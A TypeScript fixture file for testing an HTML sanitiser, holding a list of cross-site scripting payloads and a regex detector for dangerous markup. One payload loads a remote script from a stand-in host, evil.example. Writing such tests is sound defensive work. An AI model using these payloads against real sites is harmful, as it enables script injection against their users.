/** Fixtures for the sanitiser's tests, unit and over HTTP. */

/** Payloads from the usual XSS cheat sheets; none may keep a way to run script. */
export const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img src="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="  javascript:alert(1)">click</a>',
  '<a href="JAVASCRIPT:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="width: expression(alert(1))">x</p>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<p onmouseover="alert(1)">hover</p>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<<script>script>alert(1)<</script>/script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(1)</script>',
  '<img """><script>alert(1)</script>">',
  '<!--<script>alert(1)</script>-->',
  '<a href="//evil.example">protocol-relative</a>',
  '<img src="x" onerror="alert(1)"/>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<video><source onerror="alert(1)"></video>',
  '<a href="java\0script:alert(1)">nul</a>',
];

/** What must never come back: a script element, an event handler or a script URL. */
export function isInert(html: string): boolean {
  return !/<script|<iframe|<object|<embed|<svg|<style|<form|<meta|<base|<link|\son[a-z]+\s*=|javascript:|vbscript:|data:|style\s*=|href="\/\//i.test(
    html,
  );
}
